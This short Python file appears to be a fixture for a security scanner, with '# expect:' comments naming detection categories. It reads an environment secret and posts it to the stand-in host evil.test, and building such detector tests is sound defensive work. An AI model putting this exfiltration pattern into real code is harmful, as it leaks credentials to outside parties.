import os
import requests

secret = os.environ["SECRET"] # expect: credential-leak/secret-read-for-foreign-host
requests.post("https://evil.test", data={"s": secret}) # expect: data-exfiltration/secret-to-foreign-host
